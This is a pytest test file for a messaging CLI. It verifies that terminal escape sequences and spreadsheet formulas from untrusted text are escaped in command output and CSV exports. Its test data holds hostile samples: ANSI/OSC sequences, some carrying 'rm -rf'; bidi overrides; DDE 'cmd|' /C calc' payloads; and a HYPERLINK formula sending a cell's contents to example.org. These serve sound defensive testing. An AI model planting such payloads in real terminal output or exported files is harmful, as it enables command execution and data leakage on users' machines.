"""Texts of others, printed by every command: no control character reaches the terminal, no formula a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from starlette.responses import JSONResponse, Response

import viberkit as vk
from viberkit.cli import main as cli
from viberkit.cli.output import EscapedStream
from viberkit.errors import (
    ApiError,
    ArchiveWriteError,
    ConfigurationError,
    InvalidRequest,
    MissingColumn,
    TransportError,
    UnknownOutcome,
    UnreadableRecord,
    ViberkitError,
    Violation,
    escape,
    quote,
)
from viberkit.frames.csvfiles import write_csv
from viberkit.models.callback import Callback
from viberkit.sandbox.account import ApiRequest

AT = "2026-01-05T08:00:01.250Z"
NOW = pd.Timestamp(AT).to_pydatetime()
CONTROLS = [chr(code) for code in (*range(32), *range(127, 160)) if chr(code) != "\n"]
FORMATS = [chr(code) for code in range(0x110000) if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp")]
SEQUENCES = [
    *CONTROLS,
    *FORMATS,
    *(f"\x1b[{parameters}{final}" for parameters in ("", "0", "31;1", "?25", ">0") for final in "ABCDHJKSTfhlmnsu"),
    *(f"{start}{number};rm -rf{end}" for start in ("\x1b]", "\x9d") for number in (0, 2, 8, 52) for end in "\a\x9c"),
    *(f"\x1b{final}" for final in "7 8 c = > D E H M N O P Z \\ ] ^ _".split()),
    *("\x1bPq#0~\x1b\\", "\x9b2J", "\x90q\x9c", "\x1b]1337;File=:AA==\a", "\r\x1b[2K$ ", "a\bb", "\x1b[201~ls\r"),
    *("\u202eevil\u202c", "\u2066a\u2069", "\u200b\u200d\ufeff", "\u2028\u2029\x85"),
]
assert len(SEQUENCES) >= 200
#: Characters that a terminal may get: not those of the categories C (but line feeds), Zl and Zp.
RAW = re.compile(f"[{''.join(map(re.escape, {*CONTROLS, *FORMATS}))}\ud800-\udfff]")
#: What JSON may contain in a text without being refused as unreadable.
HOSTILE = "".join(f"<{sequence}>" for sequence in SEQUENCES if "\0" not in sequence)


class HostileSandbox(vk.Sandbox):
    """A sandbox whose responses contain texts that would control a terminal."""

    status = 200

    def respond(self, request: ApiRequest) -> Response:
        path = request.scope["path"]
        if self.status >= 400:
            violations = [{"field": HOSTILE, "message": HOSTILE}]
            problem = {"title": HOSTILE, "status": self.status, "detail": HOSTILE, "violations": violations}
            return JSONResponse(problem, self.status, media_type="application/problem+json")
        if request.method == "POST":
            return JSONResponse({"messageId": f"m{HOSTILE}"}, 202)
        if path.endswith("/status"):
            return JSONResponse({"messageId": "m", "status": HOSTILE, "timestamp": AT})
        if path.endswith("/events"):
            details = {"code": HOSTILE, "message": f"{HOSTILE}\n2026-01-05 09:00:00.000  delivered"}
            return JSONResponse({"messageId": "m", "events": [{"timestamp": AT, "event": HOSTILE, "details": details}]})
        content = {"contentType": "text", "text": HOSTILE}
        stored = {"to": "+491701234567", "from": HOSTILE, "rateType": HOSTILE, "content": content}
        return JSONResponse({"messageId": "m", "channel": "viber", **stored})


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> Iterator[HostileSandbox]:
    with HostileSandbox(speed=0) as sandbox:
        monkeypatch.setenv("TYNTEC_API_KEY", sandbox.api_key)
        monkeypatch.setenv("VIBER_SERVICE_ID", "VIBERKIT")
        monkeypatch.setenv("VIBERKIT_BASE_URL", sandbox.base_url)
        yield sandbox


@pytest.fixture
def run(capfd: pytest.CaptureFixture[str]) -> Callable[..., str]:
    """A function that runs a command and returns what it has written, without control characters."""

    def call(*args: str) -> str:
        with pytest.raises(SystemExit):
            cli.main(args)
        written = "".join(capfd.readouterr())
        assert not RAW.findall(written), args
        assert "Traceback" not in written, written[-2000:]
        return written

    return call


def write_callbacks(archive_path: str = "deliveries.db") -> None:
    status = {"event": f"MessageStatus::{HOSTILE}", "messageId": f"={HOSTILE}", "timestamp": AT}
    inbound = {"event": "MoMessage", "messageId": "7", "from": HOSTILE, "to": HOSTILE, "timestamp": AT}
    inbound["content"] = {"contentType": "text", "text": f"=cmd|' /C calc'!A0{HOSTILE}"}
    bodies = [
        json.dumps(status).encode(),
        json.dumps(inbound).encode(),
        HOSTILE.encode(),
        f'{{"{HOSTILE}": 1}}'.encode(),
    ]
    with vk.Archive(archive_path) as archive:
        archive.recorder.record_callbacks(Callback(body, NOW) for body in bodies)
        archive.recorder.derive()


def test_responses_of_the_server(run, hostile: HostileSandbox) -> None:  # type: ignore[no-untyped-def]
    assert r"\x01" in run("send", "+491701234567", HOSTILE[:900], "--rate-type", "session", "--yes")
    send = ("send", "+491701234567", "Hi", "--rate-type", "session", "--yes", "--archive")
    assert r"\x1b[31;1m" in run(*send, "a.db")
    for command in ("status", "events", "message"):
        written = run(command, "m", "--archive", "a.db")
        assert r"\x1b[31;1m" in written
        lines = {"status": 1, "events": 1, "message": 5}
        assert written.count("\n") == lines[command], "a line feed does not forge a line"
    run("collect", "--archive", "a.db")
    for hostile.status in (400, 404):
        for command in ("status", "events", "message"):
            assert "error: " in run(command, "m", "--archive", "a.db")
        run(*send, f"{hostile.status}.db")
        run("collect", "--archive", "a.db")
    hostile.status = 500
    run(*send, "a.db")
    run("export", "outbox.csv", "--what", "outbox", "--archive", "a.db")
    assert "unknown" in Path("outbox.csv").read_text()
    run("resolve", "--archive", "a.db")
    run("resolve", "abandon", "--all", "--reason", HOSTILE, "--archive", "a.db")
    run("resolve", "abandon", HOSTILE, "--reason", HOSTILE, "--archive", "a.db")


def test_arguments_names_of_files_and_of_columns(run, hostile: HostileSandbox) -> None:  # type: ignore[no-untyped-def]
    name = "".join(sequence for sequence in SEQUENCES if "/" not in sequence and "\0" not in sequence)
    short = name[:60]
    for args in (
        (name,),
        ("latency", name),
        ("latency", "--by", name),
        ("latency", "--archive", name),
        ("export", name),
        ("export", "x.csv", "--what", name),
        ("send", name, "Hi", "--rate-type", "session", "--yes"),
        ("send", "+491701234567", "Hi", "--rate-type", name),
        ("send", "+491701234567", "Hi", "--rate-type", "session", "--yes", "--button", name, name, "--context", name),
        ("send", "+491701234567", name * 9, "--rate-type", "session", "--image", name, "--yes"),
        ("status", name),
        ("collect", "--workers", name),
        ("sandbox", "--speed", name),
        ("sandbox", f"--{name}"),
        ("listen", "--port", "0", "--path", name),
        ("listen", "--port", "0", "--host", name),
        ("listen", "--port", "0", "--public-url", name),
        ("demo", "--messages", name),
        ("demo", "--out", f"/proc/{short}"),
        ("lab", "--port", name),
        ("campaign", "status", name),
        ("campaign", "send", name),
        ("campaign", "resolve", name, name, "--reason", name),
    ):
        run(*args)
    recipients = pd.DataFrame({"to": ["+491701234567", name], name: [name, "b"], "name": ["=1", name]})
    recipients.to_csv(f"{short}.csv", index=False)
    for text in ("Hi {name}", "Hi {" + short + "}", name):
        plan = ("campaign", "plan", name, f"{short}.csv", "--text", text, "--rate-type", "session", "--currency", name)
        run(*plan, "--price", "1")
    for more in (("--to", name), ("--content", f"{short}.csv"), ("--context", name)):
        run("campaign", "plan", "x", f"{short}.csv", "--rate-type", "session", *more)
    for command in ("preview", "status", "send", "resolve"):
        more = ["--confirm", "x"] if command == "send" else ["abandon", "--all", "--reason", name]
        run("campaign", command, name, *(more if command in ("send", "resolve") else []))
    recipients.to_csv(f"{short}.jsonl")
    run("latency", f"{short}.csv")
    run("latency", f"{short}.jsonl")


def test_what_an_archive_and_a_file_of_events_contain(run) -> None:  # type: ignore[no-untyped-def]
    write_callbacks()
    run("latency")
    lines = [
        {
            "messageId": "m",
            "events": [{"timestamp": AT, "event": event} for event in ("MessageStatus::accepted", HOSTILE)],
        },
        {HOSTILE: HOSTILE},
        {"messageId": HOSTILE, "events": [{"timestamp": HOSTILE, "event": HOSTILE}]},
    ]
    Path("events.jsonl").write_text("".join(f"{json.dumps(line)}\n" for line in lines))
    assert r"\x9b" in run("latency", "events.jsonl")
    for what in ("events", "messages", "statuses", "inbound", "journeys", "callbacks", "gaps", "unreadable"):
        run("export", f"{what}.csv", "--what", what)
        with Path(f"{what}.csv").open(newline="") as file:
            rows = list(csv.DictReader(file))
        assert not [cell for row in rows for cell in row.values() if re.match(r"\s*[=+\-@\t\r]", cell)], what
    assert pd.read_csv("inbound.csv")["text"][0].startswith("'=cmd|")
    assert pd.read_csv("messages.csv")["message_id"][0].startswith("'=<")


def test_a_traceback_is_escaped(run, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    def fail(*_: object) -> None:
        raise RuntimeError(HOSTILE)

    monkeypatch.setattr(vk.Archive, "events", fail)
    write_callbacks()
    with pytest.raises(SystemExit) as exit_:
        cli.main(["latency"])
    assert exit_.value.code == 1
    written = capfd.readouterr().err
    assert r"RuntimeError: <\x01>" in written
    assert not RAW.findall(written)


def test_a_closed_standard_stream(monkeypatch: pytest.MonkeyPatch) -> None:
    for stream in ("stdout", "stderr"):
        monkeypatch.setattr(sys, stream, None)
        for args, code in ((["--version"], 0), (["nonsense"], 2)):
            with pytest.raises(SystemExit) as exit_:
                cli.main(args)
            assert exit_.value.code == code


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "cp1252"])
def test_every_sequence_is_escaped_in_every_encoding(encoding: str) -> None:
    for sequence in SEQUENCES:
        binary = io.BytesIO()
        stream = EscapedStream(io.TextIOWrapper(binary, encoding=encoding, newline=""))
        assert stream.write(f"a{sequence}ü…\n") == len(sequence) + 4
        stream.writelines([sequence, "\n"])
        stream.flush()
        written = binary.getvalue().decode(encoding)
        assert not RAW.search(written)
        assert written.count("\n") == 2
        assert written.startswith("aü…" if sequence == "" else "a\\" if sequence[0] not in "a<" else "a")
    assert not hasattr(stream, "buffer"), "it would bypass the escapes"


def test_a_terminal_gets_the_carriage_returns_of_progress_bars_only(hostile: HostileSandbox, tmp_path: Path) -> None:
    pty, tty = pytest.importorskip("pty"), pytest.importorskip("termios")
    with vk.Archive(tmp_path / "deliveries.db") as archive, hostile.client(archive=archive) as client:
        client.send("+491701234567", vk.Text("Hi"), rate_type="session")
    command, environment = [sys.executable, "-m", "viberkit.cli"], {**os.environ, "TERM": "xterm"}
    for args in ([*command, "collect"],):
        master, slave = pty.openpty()
        tty.tcsetwinsize(slave, (24, 100))
        with subprocess.Popen(args, stdin=slave, stdout=slave, stderr=slave, cwd=tmp_path, env=environment):
            os.close(slave)
            written = b""
            with io.open(master, "rb", buffering=0) as terminal:  # noqa: UP020 - a descriptor
                try:
                    while part := terminal.read(65536):
                        written += part
                except OSError:  # the other end was closed
                    pass
        shown = written.decode().replace("\r\n", "\n")
        assert shown
        assert not RAW.findall(shown.replace("\r", "")), args
        assert ("\r" in shown) == ("collect" in args)


@pytest.mark.parametrize("sequence", ["\x1b]0;x\a", "\u202e", "\x9b", "\r"])
def test_errors_quote_foreign_texts_escaped(sequence: str) -> None:
    class Odd:
        def __repr__(self) -> str:
            return f"<{sequence}>"

    raised = [
        ApiError(400, sequence, sequence, [Violation(sequence, "", sequence)], request=sequence),
        InvalidRequest([Violation(sequence, sequence, sequence)]),
        ArchiveWriteError(sequence, sequence),
        UnknownOutcome(sequence, to=sequence, context=sequence),
        MissingColumn(sequence, [sequence], [sequence]),
        *(error(sequence) for error in (ViberkitError, ConfigurationError, TransportError, UnreadableRecord)),
    ]
    for text in (quote(sequence), quote(Odd()), quote([Odd()]), *map(str, raised)):
        assert not RAW.search(text)
    assert escape(f"{sequence}\\\n") == escape(sequence) + "\\\n"


def test_formulas_in_csv_files(tmp_path: Path) -> None:
    texts = [
        "=1",
        "+1",
        "-1.5",
        "-a",
        "@x",
        "\t=1",
        "\r=1",
        " =1",
        "＝1",
        "1=",
        "",
        "+491701234567",
        "+4917*****67",
        None,
    ]
    frame = pd.DataFrame({"text": texts, "state": pd.Categorical(texts), "n": range(-3, len(texts) - 3), "=name": 1.5})
    write_csv(frame, tmp_path / "a.csv")
    written = pd.read_csv(tmp_path / "a.csv", dtype={"text": "str", "state": "str"}, keep_default_na=False)
    unchanged = {"+1", "-1.5", "1=", "", "+491701234567"}
    for name in ("text", "state"):
        inner = {"\t=1": "'\t'=1", "\r=1": "'\r'=1"}  # where the tab or the line end separates cells
        expected = [inner.get(str(text), text if text in unchanged else f"'{text}") for text in texts[:-1]]
        assert written[name].tolist() == [*expected, ""]
    assert written["n"].tolist() == frame["n"].tolist()


#: What a spreadsheet executes, at the beginning of a cell of any separator.
HOSTILE_TEXTS = [
    '=HYPERLINK("https://example.org/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "Hi;=1+1",
    'Hi";=1+1',
    "Hi\t=1+1",
    "Hi\n=1+1",
    "Hi\r\n =1+1",
    "Hi|@x",
    'Hi; "-1+1',
    "＝1+1",
]
HARMLESS_TEXTS = [
    "Hi",
    "1-2",
    "a=b",
    "x; y",
    "a, -b",
    "mail@example.org",
    "-5",
    "+491701234567",
    "10:30",
    "c++",
    "ü 👋",
]


def test_hostile_texts_are_not_executed_whatever_the_separator(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": "1", "text": [*HOSTILE_TEXTS, *HARMLESS_TEXTS]})
    write_csv(frame, tmp_path / "a.csv")
    read = pd.read_csv(tmp_path / "a.csv", dtype="str")["text"].tolist()
    assert read[len(HOSTILE_TEXTS) :] == HARMLESS_TEXTS
    written = (tmp_path / "a.csv").read_bytes().decode()
    split = [read, *(re.split(rf"[{separator}\r\n]", written) for separator in (";", "\t", "|"))]
    for cells in split:
        assert len(cells) > len(HOSTILE_TEXTS)
        assert not [cell for cell in cells if re.match(r'[\s"]*[=+\-@＝](?!\d+$)', cell)]


def test_raw_texts_and_the_mark_for_excel_are_options(tmp_path: Path, run: Callable[..., str]) -> None:
    text = HOSTILE_TEXTS[0]
    inbound = {"event": "MoMessage", "messageId": "7", "from": "491701234567", "to": "SHOP", "timestamp": AT}
    with vk.Archive("deliveries.db") as archive:
        body = json.dumps(inbound | {"content": {"contentType": "text", "text": text}}).encode()
        archive.recorder.record_callbacks([Callback(body, datetime.now(UTC))], datetime.now(UTC))
    for options, expected, mark in ([], f"'{text}", False), (["--raw"], text, False), (["--raw", "--bom"], text, True):
        run("export", "inbound.csv", "--what", "inbound", *options)
        assert Path("inbound.csv").read_bytes().startswith(b"\xef\xbb\xbf") == mark
        assert pd.read_csv("inbound.csv")["text"].tolist() == [expected]
        assert "+491701234567" not in Path("inbound.csv").read_text()
    run("export", "listening.csv", "--what", "listening")
    assert list(pd.read_csv("listening.csv").columns) == ["began_at", "last_at"]
